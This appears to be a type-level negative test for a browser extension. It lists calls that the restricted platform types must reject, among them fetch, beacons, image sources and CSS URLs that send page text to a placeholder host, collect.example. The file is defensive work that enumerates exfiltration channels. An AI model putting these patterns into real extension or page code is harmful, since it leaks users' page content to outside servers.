// What the types of `platform.d.ts` must refuse, each on a line of its own: one that they let through fails `extension/check`. Not shipped.
import { Talk } from "./src/talk.js";

/** @type {(text: string, element: Element) => Promise<void>} */
export const refused = async (text, element) => {
  // @ts-expect-error
  await fetch(`https://collect.example/?${text}`);
  // @ts-expect-error
  new XMLHttpRequest();
  // @ts-expect-error
  new WebSocket(text);
  // @ts-expect-error
  globalThis.fetch(text);
  // @ts-expect-error
  globalThis["fetch"](text);
  // @ts-expect-error
  window.open(text);
  // @ts-expect-error
  document.documentElement.style.backgroundImage = `url(https://collect.example/?${encodeURIComponent(text)})`;
  // @ts-expect-error
  location.search = text;
  // @ts-expect-error
  location.href = text;
  // @ts-expect-error
  document["createElement"]("img")["src"] = `https://collect.example/?${text}`;
  // @ts-expect-error
  document.createElement("img");
  // @ts-expect-error
  element.setAttribute("src", text);
  // @ts-expect-error
  element.innerHTML = text;
  // @ts-expect-error
  element.matches = () => true;
  // @ts-expect-error
  if (element instanceof HTMLElement) chrome.dom.openOrClosedShadowRoot(element)?.innerHTML;
  // @ts-expect-error
  new Image().src = text;
  // @ts-expect-error
  navigator.sendBeacon(text);
  // @ts-expect-error
  localStorage.setItem(text, text);
  // @ts-expect-error
  console.log(text);
  // @ts-expect-error
  await chrome.storage.local.set({ text });
  // @ts-expect-error
  await chrome.tabs.update(1, { url: text });
  // @ts-expect-error
  new Talk(() => undefined).url = text;
};
